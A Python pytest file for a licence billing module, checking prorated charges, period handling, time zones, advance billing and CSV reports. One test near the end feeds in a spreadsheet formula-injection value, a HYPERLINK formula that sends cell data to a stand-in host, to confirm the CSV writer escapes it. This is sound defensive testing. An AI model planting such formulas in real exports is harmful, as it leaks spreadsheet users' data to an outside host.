"""Charges computed by hand to the cent, from licence histories built as the sync writes them.

Each expected amount is quantity x unit price x days / days in the month, rounded half-up; the
arithmetic is written beside it.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from core.billing.charges import advance, arrears, corrections, full_month
from core.billing.ledger import HistoryEntry, LicenceState, build_ledger
from core.billing.report import ChargeLine, ChargeReport, Period, parse_period, write_csv
from core.config.billing import BillingSettings
from core.errors import UsageError
from tests.billing_helpers import UTC, at, basic, ledger, money, spans

ZURICH = ZoneInfo("Europe/Zurich")
NOV = Period(2026, 11)  # 30 days
JAN = Period(2026, 1)  # 31 days


# -- periods and settings ------------------------------------------------------------------------

def test_period_knows_its_days_and_neighbours() -> None:
    assert [Period(2026, 2).days, Period(2028, 2).days, NOV.days, JAN.days] == [28, 29, 30, 31]
    assert (str(JAN.previous()), str(NOV.next()), str(JAN)) == ("2025-12", "2026-12", "2026-01")
    assert (NOV.first, NOV.last) == (date(2026, 11, 1), date(2026, 11, 30))


@pytest.mark.parametrize("text", ["2026-13", "2026-00", "abc", "2026/11", "26-11", "", "2026-11-01",
                                  "0000-01"])
def test_a_bad_period_is_a_one_line_usage_error(text: str) -> None:
    with pytest.raises(UsageError) as caught:
        parse_period(text)
    assert any(word in str(caught.value) for word in ("YYYY-MM", "no month", "year"))
    assert "\n" not in str(caught.value)


def test_billing_settings_default_and_refuse_an_unknown_zone() -> None:
    settings = BillingSettings()
    assert (settings.mode, settings.proration, settings.timezone) == ("arrears", "daily", "UTC")
    with pytest.raises(ValueError, match="IANA"):
        BillingSettings(timezone="Europe/Atlantis")


# -- arrears, daily --------------------------------------------------------------------------------

def test_a_31_day_month_with_an_increase() -> None:
    lic = ledger("2025-12-15 09:00", basic(5), ("2026-01-11 10:00", {"quantity": 8}))
    lines = arrears(lic, JAN)
    assert spans(lines) == [("2026-01-01", "2026-01-10", 10, 5), ("2026-01-11", "2026-01-31", 21, 8)]
    assert money(lines) == ["9.03", "30.35"]  # 5*5.60*10/31 = 9.0322; 8*5.60*21/31 = 30.3484
    assert money(lines, "cost") == ["7.74", "26.01"]  # 5*4.80*10/31 = 7.7419; 8*4.80*21/31 = 26.0129
    assert [ln.kind for ln in lines] == ["prorata", "prorata"]
    assert {ln.period_days for ln in lines} == {31}


def test_a_30_day_month_terminated_mid_month_matches_the_interface_example() -> None:
    lic = ledger("2026-10-02 02:00", basic(5), ("2026-11-11 02:00", {"active": False}))
    lines = arrears(lic, NOV)
    assert [ln.as_json() for ln in lines] == [{
        "customer": "Contoso Ltd", "vendor": "also", "external_id": "200101",
        "licence": "Microsoft 365 Business Basic", "kind": "prorata", "from": "2026-11-01", "to": "2026-11-10",
        "days": 10, "period_days": 30, "quantity": 5, "unit_price": "5.60", "amount": "9.33",
        "unit_cost": "4.80", "cost": "8.00", "currency": "EUR"}]  # 5*5.60*10/30 = 9.333; 5*4.80*10/30 = 8
    assert arrears(lic, NOV.next()) == []


def test_a_28_day_month_first_seen_mid_month_without_a_cost() -> None:
    lic = ledger("2026-02-08 02:00", basic(3, "10.00", None))
    lines = arrears(lic, Period(2026, 2))
    assert spans(lines) == [("2026-02-08", "2026-02-28", 21, 3)]
    assert money(lines) == ["22.50"]  # 3*10*21/28 = 22.5
    assert money(lines, "cost") == [None]
    assert arrears(lic, Period(2026, 1)) == []


def test_a_29_day_month_with_a_change_on_its_last_day() -> None:
    lic = ledger("2027-06-01 02:00", basic(2, "7.30", "6.00"), ("2028-02-29 02:00", {"quantity": 4}))
    lines = arrears(lic, Period(2028, 2))
    assert spans(lines) == [("2028-02-01", "2028-02-28", 28, 2), ("2028-02-29", "2028-02-29", 1, 4)]
    assert money(lines) == ["14.10", "1.01"]  # 2*7.30*28/29 = 14.0966; 4*7.30*1/29 = 1.0069
    assert money(lines, "cost") == ["11.59", "0.83"]  # 2*6*28/29 = 11.5862; 4*6/29 = 0.8276


def test_a_change_on_the_first_day_bills_the_whole_month_at_the_new_state() -> None:
    lic = ledger("2025-06-01 02:00", basic(5), ("2026-03-01 08:00", {"quantity": 6}))
    lines = arrears(lic, Period(2026, 3))
    assert spans(lines) == [("2026-03-01", "2026-03-31", 31, 6)]
    assert money(lines) == ["33.60"] and lines[0].kind == "recurring"  # 6*5.60
    assert money(arrears(lic, Period(2026, 2))) == ["28.00"]  # 5*5.60


def test_quantity_and_price_changing_in_one_month() -> None:
    lic = ledger("2025-06-01 02:00", basic(10, "3.10", "2.70"),
                 ("2026-04-06 02:00", {"price": Decimal("3.40")}), ("2026-04-21 02:00", {"quantity": 12}))
    lines = arrears(lic, Period(2026, 4))
    assert spans(lines) == [("2026-04-01", "2026-04-05", 5, 10), ("2026-04-06", "2026-04-20", 15, 10),
                            ("2026-04-21", "2026-04-30", 10, 12)]
    assert money(lines) == ["5.17", "17.00", "13.60"]  # 10*3.10*5/30 = 5.1667; 10*3.40*15/30; 12*3.40*10/30
    assert money(lines, "unit_price") == ["3.10", "3.40", "3.40"]


def test_quantity_and_price_changing_in_one_sync() -> None:
    lic = ledger("2025-06-01 02:00", basic(10, "3.10", "2.70"),
                 ("2026-04-16 02:00", {"price": Decimal("3.40"), "quantity": 12}))
    lines = arrears(lic, Period(2026, 4))
    assert spans(lines) == [("2026-04-01", "2026-04-15", 15, 10), ("2026-04-16", "2026-04-30", 15, 12)]
    assert money(lines) == ["15.50", "20.40"]  # 10*3.10*15/30; 12*3.40*15/30


def test_deactivated_then_reactivated() -> None:
    lic = ledger("2025-06-01 02:00", basic(4, "6.00", "5.00"),
                 ("2026-06-10 02:00", {"active": False}),
                 ("2026-06-20 02:00", {"active": True}))
    lines = arrears(lic, Period(2026, 6))
    assert spans(lines) == [("2026-06-01", "2026-06-09", 9, 4), ("2026-06-20", "2026-06-30", 11, 4)]
    assert money(lines) == ["7.20", "8.80"]  # 4*6*9/30; 4*6*11/30


def test_zeroed_quantity_stops_the_charge_that_day() -> None:
    lic = ledger("2025-06-01 02:00", basic(4, "6.00", "5.00"), ("2026-06-16 02:00", {"quantity": 0}))
    assert spans(arrears(lic, Period(2026, 6))) == [("2026-06-01", "2026-06-15", 15, 4)]
    assert money(arrears(lic, Period(2026, 6))) == ["12.00"]  # 4*6*15/30


def test_two_changes_on_one_day_the_later_wins() -> None:
    lic = ledger("2025-06-01 02:00", basic(4, "6.00"),
                 ("2026-06-16 02:00", {"quantity": 9}), ("2026-06-16 20:00", {"quantity": 7}))
    assert spans(arrears(lic, Period(2026, 6))) == [("2026-06-01", "2026-06-15", 15, 4),
                                                    ("2026-06-16", "2026-06-30", 15, 7)]


def test_created_then_terminated_on_one_day_bills_nothing() -> None:
    lic = ledger("2026-06-16 02:00", basic(4), ("2026-06-16 09:00", {"active": False}))
    assert arrears(lic, Period(2026, 6)) == []


def test_a_licence_created_inactive_is_never_charged_until_it_is_active() -> None:
    lic = ledger("2026-06-05 02:00", basic(4, "6.00", active=False), ("2026-06-21 02:00", {"active": True}))
    lines = arrears(lic, Period(2026, 6))
    assert spans(lines) == [("2026-06-21", "2026-06-30", 10, 4)]
    assert money(lines) == ["8.00"]  # 4*6*10/30
    frozen = ledger("2026-06-05 02:00", basic(4, active=False))
    assert arrears(frozen, Period(2026, 6)) == [] and advance(frozen, Period(2026, 7)) == []


def test_a_new_licence_starts_on_its_start_date_when_that_is_later() -> None:
    lic = ledger("2026-06-05 02:00", basic(3, "10.00", start=date(2026, 6, 11)))
    assert spans(arrears(lic, Period(2026, 6))) == [("2026-06-11", "2026-06-30", 20, 3)]
    assert money(arrears(lic, Period(2026, 6))) == ["20.00"]  # 3*10*20/30
    earlier = ledger("2026-06-05 02:00", basic(3, "10.00", start=date(2020, 1, 10)))
    assert spans(arrears(earlier, Period(2026, 6))) == [("2026-06-05", "2026-06-30", 26, 3)]


def test_a_sync_at_2330_utc_is_the_next_day_in_zurich() -> None:
    changes = ("2026-11-30 23:30", {"quantity": 6})
    in_utc = arrears(ledger("2026-01-01 02:00", basic(5), changes, zone=UTC), NOV)
    assert spans(in_utc) == [("2026-11-01", "2026-11-29", 29, 5), ("2026-11-30", "2026-11-30", 1, 6)]
    assert money(in_utc) == ["27.07", "1.12"]  # 5*5.60*29/30 = 27.0667; 6*5.60/30 = 1.12
    in_zurich = ledger("2026-01-01 02:00", basic(5), changes, zone=ZURICH)
    assert spans(arrears(in_zurich, NOV)) == [("2026-11-01", "2026-11-30", 30, 5)]
    assert money(arrears(in_zurich, NOV)) == ["28.00"]
    assert spans(arrears(in_zurich, NOV.next())) == [("2026-12-01", "2026-12-31", 31, 6)]


def test_proration_none_bills_the_month_at_its_first_days_state() -> None:
    lic = ledger("2025-06-01 02:00", basic(10, "3.10", "2.70"),
                 ("2026-04-06 02:00", {"price": Decimal("3.40")}), ("2026-04-21 02:00", {"quantity": 12}))
    lines = arrears(lic, Period(2026, 4), "none")
    assert spans(lines) == [("2026-04-01", "2026-04-30", 30, 10)]
    assert money(lines) == ["31.00"] and lines[0].kind == "recurring"  # 10*3.10
    assert money(arrears(lic, Period(2026, 5), "none")) == ["40.80"]  # 12*3.40: the change counts from May
    assert corrections(lic, Period(2026, 4), "none") == []
    new = ledger("2026-04-08 02:00", basic(2, "10.00"))
    assert arrears(new, Period(2026, 4), "none") == []  # first seen after the 1st: from May
    assert money(arrears(new, Period(2026, 5), "none")) == ["20.00"]


def test_a_licence_without_a_price_gives_a_line_with_a_null_amount() -> None:
    lic = ledger("2025-06-01 02:00", basic(5, None, None))
    line = arrears(lic, NOV)[0]
    assert (line.amount, line.cost, line.as_json()["unit_price"]) == (None, None, None)


def test_a_licence_that_moved_customer_bills_each_customer_for_its_days() -> None:
    lic = ledger("2025-06-01 02:00", basic(5), ("2026-11-16 02:00", {"customer": "Fabrikam GmbH"}))
    lines = arrears(lic, NOV)
    assert [(ln.customer, ln.days, ln.as_json()["amount"]) for ln in lines] == [
        ("Contoso Ltd", 15, "14.00"), ("Fabrikam GmbH", 15, "14.00")]  # 5*5.60*15/30


# -- advance ----------------------------------------------------------------------------------------

def test_advance_bills_the_month_and_corrects_the_previous_one() -> None:
    lic = ledger("2025-12-15 09:00", basic(5), ("2026-01-11 10:00", {"quantity": 8}))
    lines = advance(lic, Period(2026, 2))
    assert [(ln.kind, ln.start.isoformat(), ln.end.isoformat(), ln.quantity, ln.as_json()["amount"])
            for ln in lines] == [
        ("recurring", "2026-02-01", "2026-02-28", 8, "44.80"),  # 8*5.60
        ("prorata", "2026-01-11", "2026-01-31", 3, "11.38"),  # 3*5.60*21/31 = 11.3806
    ]
    assert lines[1].period_days == 31 and lines[1].as_json()["cost"] == "9.75"  # 3*4.80*21/31 = 9.7548
    # full(Jan) + correction = arrears(Jan): 28.00 + 11.38 = 9.03 + 30.35
    assert full_month(lic, JAN)[0].amount + lines[1].amount == sum(ln.amount for ln in arrears(lic, JAN))


def test_advance_credits_a_termination_of_the_previous_month() -> None:
    lic = ledger("2026-09-02 02:00", basic(5), ("2026-11-11 02:00", {"active": False}))
    lines = advance(lic, NOV.next())
    assert [(ln.kind, ln.start.isoformat(), ln.end.isoformat(), ln.quantity, ln.as_json()["amount"],
             ln.as_json()["cost"]) for ln in lines] == [
        ("prorata", "2026-11-11", "2026-11-30", -5, "-18.67", "-16.00")]  # 5*5.60*20/30 = 18.667
    assert money(advance(lic, NOV)) == ["28.00"]  # November billed in full on its first day


def test_advance_with_a_price_change_credits_the_old_price_and_charges_the_new() -> None:
    lic = ledger("2025-06-01 02:00", basic(10, "3.10", "2.70"), ("2026-04-21 02:00", {"price": Decimal("3.40")}))
    lines = corrections(lic, Period(2026, 4))
    assert [(ln.quantity, ln.as_json()["unit_price"], ln.as_json()["amount"]) for ln in lines] == [
        (-10, "3.10", "-10.33"), (10, "3.40", "11.33")]  # 10*3.10*10/30 = 10.333; 10*3.40*10/30 = 11.333


def test_advance_of_a_licence_first_seen_mid_month_charges_its_days() -> None:
    lic = ledger("2026-02-08 02:00", basic(3, "10.00", None))
    lines = advance(lic, Period(2026, 3))
    assert [(ln.kind, ln.days, ln.quantity, ln.as_json()["amount"]) for ln in lines] == [
        ("recurring", 31, 3, "30.00"), ("prorata", 21, 3, "22.50")]


# -- the ledger itself ---------------------------------------------------------------------------

def test_a_licence_without_a_created_row_predates_its_history() -> None:
    state = LicenceState("Contoso Ltd", "Basic", True, 7, Decimal("1.00"), None, "EUR")
    history = [HistoryEntry(at("2026-11-21 02:00"), "quantity", "5", "7", 1)]
    lic = build_ledger("also", "1", state, history, UTC)
    assert spans(arrears(lic, NOV)) == [("2026-11-01", "2026-11-20", 20, 5), ("2026-11-21", "2026-11-30", 10, 7)]


def test_fields_billing_does_not_use_do_not_split_lines() -> None:
    lic = ledger("2025-06-01 02:00", basic(5), ("2026-11-11 02:00", {"name": "M365 Basic"}))
    assert spans(arrears(lic, NOV)) == [("2026-11-01", "2026-11-30", 30, 5)]


# -- report and CSV --------------------------------------------------------------------------------

def _line(customer: str, amount: str | None, cost: str | None, currency: str = "EUR",
          cycle: str | None = "Monthly") -> ChargeLine:
    return ChargeLine(customer, "also", "1", "Basic", "recurring", NOV.first, NOV.last, 30, 30, 1,
                      Decimal(amount) if amount else None, Decimal(amount) if amount else None,
                      Decimal(cost) if cost else None, Decimal(cost) if cost else None, currency, cycle)


def test_report_totals_per_customer_and_overall() -> None:
    report = ChargeReport(NOV, "arrears", [_line("A", "10.00", "8.00"), _line("A", "5.50", None),
                                           _line("B", None, None), _line("B", "1.00", "2.00", cycle="Annual")], [])
    assert list(report.by_customer()) == ["A", "B"]
    a = report.totals("A")["EUR"]
    assert (a.amount, a.cost, a.margin, a.unpriced) == (Decimal("15.50"), Decimal("8.00"), Decimal("2.00"), 0)
    everything = report.totals()["EUR"]
    assert (everything.amount, everything.cost, everything.margin, everything.unpriced) == (
        Decimal("16.50"), Decimal("10.00"), Decimal("1.00"), 1)
    assert [(str(kind), t.amount) for (kind, _cur), t in report.by_kind().items()] == [("recurring", Decimal("16.50"))]


def test_csv_has_a_header_and_decimal_strings() -> None:
    stream = io.StringIO()
    write_csv([_line("Contoso Ltd", "9.33", None)], stream)
    header, row = stream.getvalue().splitlines()
    assert header == ("customer,vendor,external_id,licence,kind,from,to,days,period_days,quantity,"
                      "unit_price,amount,unit_cost,cost,currency")
    assert row == "Contoso Ltd,also,1,Basic,recurring,2026-11-01,2026-11-30,30,30,1,9.33,9.33,,,EUR"


def test_the_cli_knows_the_same_modes_as_billing() -> None:
    from core.cli import billing as cli_billing
    from core.config import billing as billing_settings

    assert cli_billing.MODES == billing_settings.MODES


def test_a_clock_stepped_back_between_two_syncs_does_not_reorder_their_changes() -> None:
    # A paused VM resumes and NTP steps the clock back: the second sync (5 -> 6 was the first, 6 -> 7 the
    # second, by row id) is stamped a few minutes before the first. The history is still 5, then 6, then 7.
    state = LicenceState("Contoso Ltd", "Basic", True, 7, Decimal("3.00"), None, "EUR")
    history = [HistoryEntry(at("2026-10-01 02:00"), "created", None, "5", 1),
               HistoryEntry(at("2026-11-21 00:10"), "quantity", "5", "6", 2),
               HistoryEntry(at("2026-11-20 23:50"), "quantity", "6", "7", 3)]
    lines = arrears(build_ledger("also", "1", state, history, UTC), NOV)
    # Before: Nov 1-19 billed at 6 (never true), Nov 20 at 5. The second change cannot take effect before
    # the first: both count from the 21st, the later (7) winning.
    assert spans(lines) == [("2026-11-01", "2026-11-20", 20, 5), ("2026-11-21", "2026-11-30", 10, 7)]
    assert money(lines) == ["10.00", "7.00"]  # 5*3*20/30; 7*3*10/30


def test_csv_text_that_excel_would_run_as_a_formula_is_quoted_and_money_is_not() -> None:
    # Accountants open the CSV in Excel: a customer or product named by a hostile vendor "=HYPERLINK(...)"
    # would run as a formula. Text cells starting with = + - @ (or a tab / carriage return) get a leading
    # apostrophe; money and numbers are ours and stay as they are (a credit's "-18.67" is a number).
    credit = ChargeLine('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "also", "@SUM(1)", "+Basic",
                        "prorata", NOV.first, NOV.last, 30, 30, -5, Decimal("5.60"), Decimal("-28.00"),
                        None, None, "-EUR")
    stream = io.StringIO()
    write_csv([credit], stream)
    row = next(csv.DictReader(io.StringIO(stream.getvalue())))
    assert row["customer"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert (row["external_id"], row["licence"], row["currency"]) == ("'@SUM(1)", "'+Basic", "'-EUR")
    assert (row["quantity"], row["amount"], row["vendor"]) == ("-5", "-28.00", "also")


def test_a_credit_that_rounds_to_nothing_is_zero_not_minus_zero() -> None:
    from core.billing.charges import prorate
    from core.shapes import money as money_text

    # -1 x 0.01 x 1/31 = -0.0003: an accountant's CSV showed "-0.00".
    assert money_text(prorate(-1, Decimal("0.01"), 1, 31)) == "0.00"
    assert money_text(prorate(-3, Decimal("0.15"), 1, 90)) == "-0.01"  # -0.005 rounds half away from zero
    assert money_text(prorate(3, Decimal("0.15"), 1, 90)) == "0.01"
